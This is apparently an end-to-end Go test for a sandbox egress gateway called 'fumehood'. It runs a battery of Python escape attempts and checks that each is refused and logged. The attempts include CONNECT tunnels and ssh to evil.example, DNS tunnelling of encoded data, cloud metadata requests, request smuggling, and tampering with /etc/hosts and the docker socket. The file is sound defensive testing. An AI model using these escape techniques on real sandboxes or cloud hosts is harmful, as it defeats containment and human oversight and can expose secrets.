// SPDX-License-Identifier: Apache-2.0

//go:build e2e

package main

import (
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	voice "github.com/fumehood/fumehood/internal/evidence/report"
	"github.com/fumehood/fumehood/pkg/proposal"
)

// An attack is an attempt to get out of the sandbox.
type attack struct {
	name string
	// code is Python. It prints "out: …" if it got out.
	code string
	// seen is what the record must contain if there is a gateway: part of a refused
	// flow's name, address, protocol or code. It is "" if the attempt never results
	// in a flow.
	seen string
}

// Each helper in it prints "out" if an attempt succeeded.
const attackPrelude = `
import socket, ssl, os, struct, subprocess, sys
socket.setdefaulttimeout(3)
def tcp(host, port, data=b"", family=0):
    try:
        s = socket.create_connection((host, port), 3)
        if data: s.sendall(data)
        s.settimeout(3)
        got = s.recv(4096)
        if got and b"fumehood" not in got and not got.startswith((b"HTTP/1.1 403", b"\x15\x03")): print("out:", host, port, got[:80])
        else: print("nothing:", host, port, got[:60])
        return got
    except OSError as e:
        print("refused:", host, port, e)
def tls(connect, sni, port=443, host=None, alpn=None):
    c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
    if alpn: c.set_alpn_protocols(alpn)
    try:
        s = c.wrap_socket(socket.create_connection((connect, port), 3), server_hostname=sni)
        s.sendall(("GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (host or sni)).encode())
        got = s.recv(4096)
        print("got:" if b"403" in got[:20] or not got else "out:", connect, sni, got[:80])
    except OSError as e:
        print("refused:", connect, sni, e)
def udp(host, port, data, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(1)
    try:
        s.connect((host, port)); s.send(data); got = s.recv(2048)
        name_error = port == 53 and got[3] & 15 == 3 and got[6:8] == b"\0\0"
        print("refused:" if name_error else "out:", host, port, got[:60])
    except OSError as e:
        print("refused:", host, port, e)
def query(name, type=1):
    q = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0)
    for label in name.split("."): q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack(">HH", type, 1)
def lookup(name):
    try: print("out:", name, socket.getaddrinfo(name, 443)[0][4])
    except OSError as e: print("refused:", name, e)
def run(*argv):
    try:
        p = subprocess.run(argv, capture_output=True, timeout=8)
        print("out:" if p.returncode == 0 and p.stdout and b"fumehood" not in p.stdout else "refused:", argv[0], p.returncode, (p.stdout + p.stderr)[-200:])
    except (OSError, subprocess.TimeoutExpired) as e:
        print("refused:", argv[0], e)
`

func attacks() []attack {
	return []attack{
		{"CONNECT to a blocked host", `tcp("allowed.example", 80, b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n")`, "allowed.example"},
		{"a proxy on a raw address", `tcp("93.184.215.15", 3128, b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example\r\n\r\n")`, "93.184.215.15"},
		{"direct https", `run("curl", "-sk", "--noproxy", "*", "-m", "5", "https://evil.example/")`, "evil.example"},
		{"an approved domain at another address, --connect-to", `run("curl", "-sk", "-m", "5", "--connect-to", "allowed.example:443:93.184.215.15:443", "https://allowed.example/")`, "93.184.215.15"},
		{"an approved domain at another address, --resolve", `run("curl", "-sk", "-m", "5", "--resolve", "allowed.example:443:93.184.215.15", "https://allowed.example/")`, "93.184.215.15"},
		{"a raw address", `tls("93.184.215.15", None, host="allowed.example")`, "93.184.215.15"},
		{"the approved host by its raw address", `tls("93.184.215.14", "allowed.example")`, "93.184.215.14"},
		{"port 22", `tcp("allowed.example", 22)`, "allowed.example"},
		{"another port", `tcp("allowed.example", 8443)`, "allowed.example"},
		{"ssh", `run("ssh", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "ConnectTimeout=4", "evil.example", "id")`, "evil.example"},
		{"a foreign name server", `udp("9.9.9.9", 53, query("evil.example"))`, "9.9.9.9"},
		{"a foreign name server by TCP", `tcp("9.9.9.9", 53, b"\0\x1e" + query("evil.example"))`, "9.9.9.9"},
		{"DNS over TLS", `tls("9.9.9.9", "dns.example", 853)`, "9.9.9.9"},
		{"a name server that lies, in /etc/resolv.conf", "try:\n open('/etc/resolv.conf','w').write('nameserver 9.9.9.9')\n print('out: written')\nexcept OSError as e: print('refused:', e)", ""},
		{"an entry in /etc/hosts", "try:\n open('/etc/hosts','a').write('93.184.215.15 allowed.example')\n print('out: written')\nexcept OSError as e: print('refused:', e)", ""},
		{"a tunnel in names", `lookup("c2VjcmV0LXZhbHVl.tunnel.evil.example")`, "tunnel.evil.example"},
		{"a tunnel below the approved name", `lookup("c2VjcmV0LXZhbHVl.allowed.example")`, "allowed.example"},
		{"a tunnel in TXT", `udp("198.18.0.1", 53, query("secret.evil.example", 16))` + "\n" + `lookup("secret.evil.example")`, "secret.evil.example"},
		{"a name that resolves to another network, rebinding", `lookup("rebind.allowed.example"); tls("rebind.allowed.example", "rebind.allowed.example")`, "rebind.allowed.example"},
		{"an approved name that resolves to private addresses", `tls("inside.example", "inside.example")`, "inside.example"},
		{"metadata", `tcp("169.254.169.254", 80, b"GET /latest/meta-data/ HTTP/1.0\r\n\r\n")`, "169.254.169.254"},
		{"metadata of version 6", `tcp("fd00:ec2::254", 80, b"GET / HTTP/1.0\r\n\r\n")`, "fd00:ec2::254"},
		{"metadata by name", `lookup("metadata.google.internal")`, "metadata.google.internal"},
		{"private addresses", `[tcp(a, p, b"GET / HTTP/1.0\r\n\r\n") for a, p in (("10.0.0.5", 443), ("192.168.7.7", 80), ("100.64.0.9", 80))]`, "10.0.0.5"},
		{"the host's loopback", `[tcp(a, 80, b"GET / HTTP/1.0\r\n\r\n") for a in ("127.0.0.1", "::1", "0.0.0.0", "127.1.2.3")]`, ""},
		{"the host", `tcp("45.33.32.1", 443, b"x")`, "45.33.32.1"},
		{"the gateway itself", `[tcp("198.18.0.1", p, b"GET / HTTP/1.0\r\n\r\n") for p in (80, 443, 22)]`, "198.18.0.1"},
		{"a mapped address", `tcp("::ffff:10.0.0.5", 443, b"x"); tcp("64:ff9b::a00:5", 443, b"x")`, "10.0.0.5"},
		{"IPv6", `tls("2606:2800:220:1::14", "allowed.example")`, "2606:2800:220:1::14"},
		{"UDP", `udp("93.184.215.15", 123, b"secret")`, "93.184.215.15"},
		{"QUIC to the approved host", `udp("93.184.215.14", 443, b"\xc3" + b"\0" * 1199)`, "93.184.215.14"},
		{"QUIC by name", "try:\n udp('allowed.example', 443, b'\\xc3' + b'\\0' * 1199)\nexcept OSError as e: print('refused:', e)", "udp"},
		{"ICMP", `run("ping", "-c", "1", "-W", "2", "93.184.215.14")` + "\ntry:\n s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.settimeout(1); s.sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ('93.184.215.14', 0)); print('out:', s.recv(99))\nexcept OSError as e: print('refused:', e)", ""},
		{"a raw packet", "for t in (socket.SOCK_RAW,):\n try:\n  s = socket.socket(socket.AF_PACKET, t, 0x300); s.bind(('eth0', 0)); s.send(b'\\xff' * 60); print('out: sent a frame')\n except OSError as e: print('refused:', e)", ""},
		{"SNI of another host", `tls("allowed.example", "evil.example", host="allowed.example")`, "allowed.example"},
		{"no SNI", `tls("allowed.example", None, host="allowed.example")`, "allowed.example"},
		{"Host of another host", `tcp("allowed.example", 80, b"GET /secret HTTP/1.1\r\nHost: evil.example\r\n\r\n")`, "allowed.example"},
		{"an absolute form of another host", `tcp("allowed.example", 80, b"GET http://evil.example/secret HTTP/1.1\r\nHost: allowed.example\r\n\r\n")`, "allowed.example"},
		{"no Host", `tcp("allowed.example", 80, b"GET /secret HTTP/1.0\r\n\r\n")`, "allowed.example"},
		{"not TLS on 443", `tcp("allowed.example", 443, b"\0\0\0\x0bsecret")`, "allowed.example"},
		{"not HTTP on 80", `tcp("allowed.example", 80, b"SSH-2.0-x\r\n\r\n")`, "allowed.example"},
		{"an encrypted hello", echCode, "allowed.example"},
		{"a redirect to another host", `run("curl", "-sfL", "-m", "8", "http://allowed.example/redirect")`, "evil.example"},
		{"a tunnel through upgrade", `tcp("allowed.example", 80, b"GET /secret HTTP/1.1\r\nHost: allowed.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n")`, "allowed.example"},
		{"two requests in one", `tcp("allowed.example", 80, b"POST /secret HTTP/1.1\r\nHost: allowed.example\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /secret2 HTTP/1.1\r\nHost: evil.example\r\n\r\n")`, "allowed.example"},
		{"the cloud's resolver", `udp("168.63.129.16", 53, query("evil.example"))`, "168.63.129.16"},
		{"a proxy variable", `os.environ["https_proxy"] = "http://93.184.215.15:3128"; run("curl", "-sk", "-m", "5", "https://evil.example/")`, "93.184.215.15"},
		{"multicast and broadcast", `udp("224.0.0.251", 5353, query("evil.local")); udp("255.255.255.255", 67, b"x")`, ""},
		{"unix sockets of the host", "import glob\nfor p in ['/var/run/docker.sock', '/run/systemd/resolve/io.systemd.Resolve', '/run/dbus/system_bus_socket'] + glob.glob('/run/fumehood*/*'):\n s = socket.socket(socket.AF_UNIX)\n try: s.connect(p); print('out:', p)\n except OSError as e: print('refused:', p, e)\ns = socket.socket(socket.AF_UNIX)\ntry: s.connect('\\0/org/x'); print('out: abstract')\nexcept OSError as e: print('refused:', e)", ""},
		{"another device", "try:\n p = subprocess.run(['ip', 'link', 'add', 'x', 'type', 'veth'], capture_output=True); print('out: made' if p.returncode == 0 else 'refused:', p.stderr)\nexcept OSError as e: print('refused:', e)", ""},
	}
}

// echCode sends a hello with an encrypted_client_hello extension (RFC 9849) and a
// matching outer name, and says whether a server answered.
const echCode = `
def ext(t, d): return struct.pack(">HH", t, len(d)) + d
name = b"allowed.example"
exts = ext(0, struct.pack(">HBH", len(name) + 3, 0, len(name)) + name) + ext(43, b"\x02\x03\x04") + ext(13, b"\0\x02\x04\x03") + ext(10, b"\0\x02\0\x1d")
exts += ext(51, struct.pack(">H", 36) + struct.pack(">HH", 0x1d, 32) + os.urandom(32)) + ext(0xfe0d, b"\0\0\x01\0\x01\x07\0\x20" + os.urandom(32) + b"\0\x40" + os.urandom(64))
body = b"\x03\x03" + os.urandom(32) + b"\0" + b"\0\x02\x13\x01" + b"\x01\0" + struct.pack(">H", len(exts)) + exts
hello = b"\x01" + struct.pack(">I", len(body))[1:] + body
tcp("allowed.example", 443, b"\x16\x03\x01" + struct.pack(">H", len(hello)) + hello)
`

// grantPolicy is an organization's policy: hosts that a plan may request.
const grantPolicy = `package fumehood.proposal

# METADATA
# title: Hosts that this organisation lets commands reach
# custom: {rule: org.hosts}
network contains {"rule": "org.hosts", "host": h} if {
	some h in input.proposal.network
	h in %s
}
`

// battery runs every attack as a proposal of one plan and returns the report.
func battery(t *testing.T, n *internet, d desk, network []string) proposal.Report {
	t.Helper()
	type item struct {
		ID       string   `json:"id"`
		Code     string   `json:"code"`
		Language string   `json:"language"`
		Network  []string `json:"network,omitempty"`
		Timeout  string   `json:"timeout"`
	}
	p := struct {
		Schema    string `json:"schema"`
		Proposals []item `json:"proposals"`
	}{Schema: proposal.PlanSchema}
	for i, a := range attacks() {
		p.Proposals = append(p.Proposals, item{fmt.Sprintf("a%d", i), attackPrelude + a.code + "\n", "python", network, "60s"})
	}
	data, err := json.Marshal(p)
	if err != nil {
		t.Fatal(err)
	}
	d.write(t, "plan.yaml", string(data))
	return n.run(t, d, "battery", network)
}

// run runs the desk's plan.yaml on the internet's host, with an organization's
// policy that grants hosts.
func (n *internet) run(t *testing.T, d desk, name string, hosts []string, more ...string) proposal.Report {
	t.Helper()
	if len(hosts) > 0 {
		d.grant(t, hosts...)
		more = append(more, "--hosts", d.path("policy"))
	}
	cmd := n.fumehood(t.Context(), d, name, more...)
	log, err := os.Create(d.path(name + ".stderr"))
	if err != nil {
		t.Fatal(err)
	}
	defer log.Close()
	cmd.Stderr = log
	n.start(cmd)
	code := exitCode(t, cmd.Wait())
	if code == exitUsage || code == exitStopped {
		text, _ := os.ReadFile(log.Name())
		t.Fatalf("fumehood run: exit code %d\n%s", code, text)
	}
	return d.report(t, name)
}

// A command reaches the host that it was granted, over HTTP and HTTPS, and no
// other. Everything it did is recorded.
func TestE2EGrantedHost(t *testing.T) {
	t.Parallel()
	n, d := newInternet(t), newDesk(t)
	n.name("evil.example", otherAddress)
	n.serve(serverAddress, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { _, _ = w.Write([]byte("hello " + r.Proto)) }), "allowed.example")
	d.write(t, "plan.yaml", `schema: fumehood.plan/v1
proposals:
  - id: it
    language: python
    network: [allowed.example]
    code: |
      import subprocess
      for url in ("http://allowed.example/a", "https://allowed.example/b", "https://evil.example/c"):
          p = subprocess.run(["curl", "-sS", "-m", "10", url], capture_output=True)
          print(url, p.returncode, p.stdout, p.stderr)
`)
	before := traces()
	report := n.run(t, d, "it", []string{"allowed.example"})
	r := result(t, report)
	out := string(r.Stdout.Head)
	for _, want := range []string{"/a 0 b'hello HTTP/1.1'", "/b 0 b'hello HTTP/2.0'", "/c 6 b'' b'curl: (6) Could not resolve host: evil.example"} {
		if !strings.Contains(out, want) {
			t.Errorf("stdout %q, want %q", out, want)
		}
	}
	comment := voice.Markdown(report)
	for _, want := range []string{"tried to reach hosts that are not allowed", "<code>evil.example</code> (looked up by <code>curl</code>", "<code>allowed.example:443</code> by <code>curl</code>", "<code>GET /a</code>"} {
		if !strings.Contains(comment, want) {
			t.Errorf("the comment lacks %q:\n%s", want, comment)
		}
	}
	n.untouched(t)
	d.checkSealed(t, "it")
	d.checkNothingLeft(t, before)
}

// grant writes the organization's policy.
func (d desk) grant(t *testing.T, hosts ...string) {
	t.Helper()
	listed, err := json.Marshal(hosts)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(d.path("policy"), 0o755); err != nil {
		t.Fatal(err)
	}
	d.write(t, "policy/hosts.rego", fmt.Sprintf(grantPolicy, listed))
}

func checkAttack(t *testing.T, a attack, r proposal.Record, gateway bool) {
	t.Helper()
	if r.Result == nil || r.Result.Status != proposal.Exited {
		t.Errorf("%s: did not run: %+v %+v", a.name, r.Decision.Reasons, r.Result)
		return
	}
	out := string(r.Result.Stdout.Head)
	if strings.Contains(out, "out:") || !strings.ContainsAny(out, ":") {
		t.Errorf("%s got out: %s\n%s", a.name, out, r.Result.Stderr.Head)
	}
	if !gateway || a.seen == "" {
		return
	}
	o := r.Result.Observations
	if o == nil || !o.Complete {
		t.Errorf("%s: the record is not complete", a.name)
		return
	}
	var all []string
	for _, reach := range o.Network {
		text := fmt.Sprintf("%+v", reach)
		all = append(all, text)
		if reach.Code != "" && strings.Contains(text, a.seen) {
			return
		}
	}
	t.Errorf("%s: no refused attempt at %q on record; stdout %q; there are:\n%s", a.name, a.seen, out, strings.Join(all, "\n"))
}

// gatewayOf returns the gateway process among the children of a fumehood.
func gatewayOf(t *testing.T, parent int) int {
	t.Helper()
	lists, _ := filepath.Glob(fmt.Sprintf("/proc/%d/task/*/children", parent))
	for _, list := range lists {
		text, _ := os.ReadFile(list)
		for _, word := range strings.Fields(string(text)) {
			line, _ := os.ReadFile("/proc/" + word + "/cmdline")
			if pid, err := strconv.Atoi(word); err == nil && strings.HasSuffix(strings.TrimRight(string(line), "\x00"), "\x00gateway") {
				return pid
			}
		}
	}
	t.Fatal("fumehood has no gateway's process")
	return 0
}
